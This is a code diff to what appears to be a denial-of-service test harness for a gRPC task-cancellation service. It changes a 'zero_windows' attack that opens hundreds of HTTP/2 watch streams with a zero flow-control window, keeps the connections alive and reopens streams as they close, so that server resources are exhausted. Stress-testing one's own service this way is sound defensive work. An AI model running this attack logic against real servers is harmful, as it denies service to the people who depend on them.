@@ -33,6 +33,8 @@ WATCH_TASKS = "/countermand.v1.CancellationService/WatchTasks"
 CANCEL = b"\0\0\0\x08"
 """Why a stream is reset."""
 WATCHES, SILENT, SLOW = 1000, 500, 200
+PER_CONNECTION = 200
+"""How many watches a connection may have."""
 AT_ONCE = 100
 """How many frames are written before the attacker waits until they are on their way."""
 LONGEST_BLOCK = 64 * 1024
@@ -112,18 +114,24 @@ async def continuations(attack: Attack) -> None:
 async def zero_windows(attack: Attack) -> None:
     """Opens many watches, and takes nothing of what they send. Of those that end, opens others."""
     request = WatchTasksRequest().SerializeToString()
-    async with connected(attack.address) as raw:
-        raw.begin(INITIAL_WINDOW_SIZE=0)
-        raw.send(SETTINGS, ACK)
-        for _ in range(WATCHES):
-            raw.call(WATCH_TASKS, request, x_api_key=attack.key)
-        attack.did(WATCHES)
-        while (frame := await raw.read()) is not None and frame.kind != GOAWAY:
-            if frame.kind == RST_STREAM or (frame.kind == HEADERS and frame.flags & END_STREAM):
+
+    async def one() -> None:
+        async with connected(attack.address) as raw:
+            raw.begin(INITIAL_WINDOW_SIZE=0)
+            raw.send(SETTINGS, ACK)
+            for _ in range(PER_CONNECTION):
                 raw.call(WATCH_TASKS, request, x_api_key=attack.key)
-                attack.did(1)
-            if frame.kind == PING and not frame.flags & ACK:
-                raw.send(PING, ACK, payload=frame.payload)
+            attack.done += PER_CONNECTION
+            if attack.done >= WATCHES:
+                attack.under_way.set()
+            while (frame := await raw.read()) is not None and frame.kind != GOAWAY:
+                if frame.kind == RST_STREAM or (frame.kind == HEADERS and frame.flags & END_STREAM):
+                    raw.call(WATCH_TASKS, request, x_api_key=attack.key)
+                    attack.done += 1
+                if frame.kind == PING and not frame.flags & ACK:
+                    raw.send(PING, ACK, payload=frame.payload)
+
+    await each(WATCHES // PER_CONNECTION, one)
 
 
 async def silence(attack: Attack) -> None:
